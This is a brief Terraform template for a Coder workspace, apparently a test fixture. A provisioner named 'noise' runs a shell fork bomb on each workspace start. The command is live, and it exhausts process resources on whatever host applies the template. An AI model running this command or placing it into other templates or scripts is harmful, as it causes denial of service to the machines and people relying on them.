terraform {
  required_providers {
    coder = { source = "coder/coder" }
  }
}

data "coder_workspace" "me" {}

resource "terraform_data" "noise" {
  count = data.coder_workspace.me.start_count

  provisioner "local-exec" {
    command = "echo begins; bomb() { bomb | bomb & }; bomb; sleep 60"
  }
}
